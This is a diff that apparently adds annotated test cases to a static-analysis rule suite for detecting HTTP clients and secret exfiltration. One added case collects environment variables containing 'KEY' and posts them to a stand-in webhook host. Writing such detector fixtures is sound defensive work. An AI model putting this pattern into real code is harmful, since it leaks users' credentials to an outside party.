@@ -624,3 +624,18 @@ with open("dump.tar.gz", "rb") as _fh:
 # ok: file-to-drop-service
 # ruleid: http-client
 requests.put("https://uploads.example.com/artifacts/app.whl", data=open("dist/app.whl", "rb"), timeout=30)
+
+# the environment put into an object's attribute, which a helper then sends
+class _Report:
+    pass
+def _ship(rep):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://hooks.example.net/in", json={"text": str(rep.extras)}, timeout=5)
+_rep = _Report()
+_rep.extras = {k: v for k, v in os.environ.items() if "KEY" in k}
+_ship(_rep)
+# a module's attribute set elsewhere is not what the module's other names hold
+sys.stdin = open("input.txt")
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post("https://api.example.net/v1/run", json={"python": sys.executable}, timeout=5)
